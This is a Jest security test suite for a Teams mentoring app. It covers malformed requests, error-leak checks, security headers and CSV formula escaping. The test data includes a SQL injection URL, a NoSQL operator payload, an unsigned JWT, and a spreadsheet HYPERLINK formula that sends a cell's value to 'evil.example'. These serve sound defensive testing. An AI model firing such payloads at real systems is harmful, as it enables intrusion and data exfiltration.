import { createServer, type Server } from 'node:http';
import { connect, type AddressInfo } from 'node:net';
import request from 'supertest';
import { answerClientErrors } from '../../api/src/http/client-errors';
import { createTestApp, type TestApp } from '../support/app';
import { ADMIN, csvObjects } from '../support/admin-fixtures';
import { fixtures } from '../support/fixtures';
import { EMAILS, goalTables, goalWorld, type GoalWorld } from '../support/goal-fixtures';

const NOW = '2026-06-10T12:00:00.000Z';

/** What a stack trace, a source location or a database message looks like in a response. */
const LEAKS = [/\bat \S+ \(/, /\.[jt]s:\d+/, /node_modules/, /SQLITE_/i, /\bselect\b.+\bfrom\b/i, /\binsert into\b/i, /\bupdate\b.+\bset\b/i, /kysely/i, /Error:/];

function expectNoLeak(res: request.Response) {
  const text = res.text ?? JSON.stringify(res.body);
  for (const leak of LEAKS) expect(text).not.toMatch(leak);
}

function expectProblem(res: request.Response, status: number) {
  expect(res.status).toBe(status);
  expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
  expect(res.body).toMatchObject({ status, type: expect.stringMatching(/^urn:tandem:problem:/), title: expect.any(String), detail: expect.any(String) });
  expectNoLeak(res);
}

describe('hostile and malformed requests', () => {
  let app: TestApp;
  let world: GoalWorld;
  let token: string;

  beforeAll(async () => {
    app = await createTestApp({ now: NOW });
    world = await goalWorld(app.db);
    token = await app.tokenFor(EMAILS.mentee);
  });
  afterAll(() => app.close());

  const goal = { title: 'Grow my network', skill: 'Networking', mentorRole: 'Makes introductions' };
  const postGoal = () => request(app.http).post(`/api/pairs/${world.pair}/goals`).set('Authorization', `Bearer ${token}`);

  it('a JSON body over 100 KB is a 413 problem naming the body, and nothing is written', async () => {
    const before = await goalTables(app.db);

    const res = await postGoal().send({ ...goal, mentorRole: 'x'.repeat(110 * 1024) });

    expectProblem(res, 413);
    expect(res.body.type).toBe('urn:tandem:problem:payload-too-large');
    expect(res.body.detail).toContain('100 KB');
    expect(res.body.errors).toEqual([expect.objectContaining({ field: 'body' })]);
    expect(await goalTables(app.db)).toEqual(before);
  });

  it('malformed JSON is a 400 problem naming the body, and nothing is written', async () => {
    const before = await goalTables(app.db);

    const res = await postGoal().set('Content-Type', 'application/json').send('{"title": "Grow", ');

    expectProblem(res, 400);
    expect(res.body.errors).toEqual([{ field: 'body', message: 'Malformed JSON' }]);
    expect(await goalTables(app.db)).toEqual(before);
  });

  it('a JSON route sent another content type answers a 4xx problem about the body, and nothing is written', async () => {
    const before = await goalTables(app.db);

    const asText = await postGoal().set('Content-Type', 'text/plain').send(JSON.stringify(goal));
    const asForm = await postGoal().type('form').send(goal);

    for (const res of [asText, asForm]) {
      expectProblem(res, 400);
      expect(res.body.errors).toEqual([expect.objectContaining({ field: 'body' })]);
    }
    expect(await goalTables(app.db)).toEqual(before);
  });

  it('JSON in a charset other than UTF-8 is a 415 problem', async () => {
    const res = await postGoal().set('Content-Type', 'application/json; charset=latin1').send(JSON.stringify(goal));

    expectProblem(res, 415);
  });

  it('no error response carries a stack trace, a source location or SQL', async () => {
    const auth = { Authorization: `Bearer ${token}` };
    const responses = await Promise.all([
      request(app.http).get('/api/pairs/not-a-uuid').set(auth),
      request(app.http).get(`/api/pairs/${world.pair}/goals?includeDeleted=maybe`).set(auth),
      request(app.http).get("/api/pairs/00000000-0000-4000-8000-000000000000' OR 1=1 --").set(auth),
      request(app.http).patch('/api/goals/00000000-0000-4000-8000-000000000000').set(auth).send({ title: 'x' }),
      request(app.http).patch(`/api/goals/${world.pair}`).set(auth).send({ progress: 1e308 }),
      request(app.http).post(`/api/pairs/${world.pair}/goals`).set(auth).send({ title: { $gt: '' }, skill: ['a'], mentorRole: null }),
      request(app.http).post(`/api/pairs/${world.pair}/goals`).set(auth).send([1, 2, 3]),
      request(app.http).get('/api/me').set('Authorization', 'Bearer eyJhbGciOiJub25lIn0.eyJ4IjoxfQ.'),
      request(app.http).delete('/api/no-such-thing').set(auth),
    ]);
    for (const res of responses) {
      expect(res.status).toBeGreaterThanOrEqual(400);
      expect(res.status).toBeLessThan(500);
      expectProblem(res, res.status);
    }
  });

  it('an unexpected failure (the database gone) answers a bare problem: no stack, no SQL, no driver message', async () => {
    const broken = await createTestApp({ now: NOW });
    const brokenWorld = await goalWorld(broken.db);
    const brokenToken = await broken.tokenFor(EMAILS.mentee);
    await broken.db.kysely.schema.dropTable('goals').execute();
    try {
      const res = await request(broken.http).get(`/api/pairs/${brokenWorld.pair}/goals`).set('Authorization', `Bearer ${brokenToken}`);

      expect(res.status).toBeGreaterThanOrEqual(500);
      expectProblem(res, res.status);
      expect(res.text).not.toMatch(/no such table/i);
      expect(res.body.detail).not.toMatch(/goals/i);
    } finally {
      await broken.close();
    }
  });
});

describe('requests the HTTP parser refuses before Express sees them', () => {
  let app: TestApp;
  let server: Server;
  let port: number;

  beforeAll(async () => {
    app = await createTestApp({ now: NOW });
    // The same server set-up as api/src/server.ts: Node's parser, then our answer to its refusals.
    server = createServer(app.http);
    answerClientErrors(server);
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    port = (server.address() as AddressInfo).port;
  });
  afterAll(async () => {
    await new Promise((resolve) => server.close(resolve));
    await app.close();
  });

  /** Sends raw bytes and returns the raw answer, up to the server closing the connection. */
  function raw(bytes: string): Promise<{ status: number; headers: string; body: string }> {
    return new Promise((resolve, reject) => {
      const socket = connect(port, '127.0.0.1', () => socket.end(bytes));
      let answer = '';
      socket.on('data', (chunk) => (answer += chunk.toString()));
      socket.on('error', reject);
      socket.on('close', () => {
        const [head = '', body = ''] = answer.split('\r\n\r\n');
        resolve({ status: Number(head.split(' ')[1]), headers: head, body });
      });
    });
  }

  it('a URL over the 16 KB header limit is a 431 problem naming the headers, not a bare status line', async () => {
    const res = await raw(`GET /api/goals?title=${'x'.repeat(20_000)} HTTP/1.1\r\nHost: localhost\r\n\r\n`);
    expect(res.status).toBe(431);
    expect(res.headers).toMatch(/^Content-Type: application\/problem\+json/im);
    const problem = JSON.parse(res.body);
    expect(problem).toMatchObject({ status: 431, type: 'urn:tandem:problem:headers-too-large', errors: [{ field: 'headers' }] });
    expect(problem.detail).toMatch(/16 KB/);
  });

  it('bytes that are not HTTP are a 400 problem', async () => {
    const res = await raw('HELLO THERE\r\n\r\n');
    expect(res.status).toBe(400);
    expect(JSON.parse(res.body)).toMatchObject({ status: 400, type: 'urn:tandem:problem:validation', errors: [{ field: 'request' }] });
  });

  it('ordinary requests on the same server are unaffected', async () => {
    const res = await fetch(`http://127.0.0.1:${port}/api/health`);
    expect(res.status).toBe(200);
  });
});

describe('security headers', () => {
  let app: TestApp;

  beforeAll(async () => {
    app = await createTestApp({ now: NOW });
  });
  afterAll(() => app.close());

  it.each([
    ['an API answer', '/api/health'],
    ['an API problem', '/api/me'],
    ['the tab page', '/tab'],
    ['the admin dashboard page', '/admin'],
  ])('%s carries the headers that keep Tandem framed only by Teams and served only over HTTPS', async (_what, path) => {
    const res = await request(app.http).get(path);

    const csp = String(res.headers['content-security-policy']);
    expect(csp).toMatch(/default-src 'self'/);
    expect(csp).toMatch(/frame-ancestors [^;]*https:\/\/teams\.microsoft\.com/);
    expect(csp).not.toMatch(/frame-ancestors [^;]*\*(;|\s|$)/);
    expect(csp).toMatch(/script-src 'self' https:\/\/res\.cdn\.office\.net(;|$)/);
    expect(csp).not.toMatch(/script-src[^;]*'unsafe-inline'/);
    expect(csp).toMatch(/object-src 'none'/);
    expect(csp).toMatch(/base-uri 'self'/);
    expect(res.headers['strict-transport-security']).toMatch(/max-age=\d{7,}; includeSubDomains/);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['referrer-policy']).toBe('no-referrer');
    expect(res.headers['cross-origin-opener-policy']).toBe('same-origin');
    // X-Frame-Options can't list Teams' hosts; frame-ancestors does the job instead.
    expect(res.headers['x-frame-options']).toBeUndefined();
    expect(res.headers['x-powered-by']).toBeUndefined();
  });

  it('the same headers hold in production mode', async () => {
    const prod = await createTestApp({
      now: NOW,
      env: { NODE_ENV: 'production', AUTH_MODE: 'entra', ENTRA_CLIENT_ID: '11111111-1111-4111-8111-111111111111', ENTRA_TENANT_ID: '22222222-2222-4222-8222-222222222222' },
    });
    try {
      const res = await request(prod.http).get('/api/health');
      expect(res.headers['strict-transport-security']).toMatch(/max-age=\d{7,}; includeSubDomains/);
      expect(String(res.headers['content-security-policy'])).toMatch(/frame-ancestors [^;]*https:\/\/teams\.microsoft\.com/);
      expect(res.headers['x-powered-by']).toBeUndefined();
    } finally {
      await prod.close();
    }
  });
});

describe('CSV exports and spreadsheet formulas', () => {
  it('a participant whose name starts with = appears in the export as text, prefixed with a quote', async () => {
    const app = await createTestApp({ now: NOW });
    try {
      const f = fixtures(app.db);
      const program = await f.program('Grow Together');
      const hostile = await f.person('eve@contoso.example', { displayName: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")', department: '+SUM(1,2)' });
      await f.enrol(program, hostile, 'mentee');
      const token = await app.tokenFor(ADMIN);

      const res = await request(app.http)
        .get('/api/admin/export.csv?dataset=participants&from=2025-01-01&to=2026-12-31')
        .set('Authorization', `Bearer ${token}`)
        .buffer(true)
        .parse((stream, callback) => {
          const chunks: Buffer[] = [];
          stream.on('data', (chunk: Buffer) => chunks.push(chunk));
          stream.on('end', () => callback(null, Buffer.concat(chunks).toString('utf8')));
        });

      expect(res.status).toBe(200);
      const { rows } = csvObjects(res.body as string);
      const eve = rows.find((r) => r.user_id === hostile);
      expect(eve?.name).toBe(`'=HYPERLINK("http://evil.example/?leak="&A1,"Open")`);
      expect(eve?.department).toBe(`'+SUM(1,2)`);
      for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    } finally {
      await app.close();
    }
  });
});
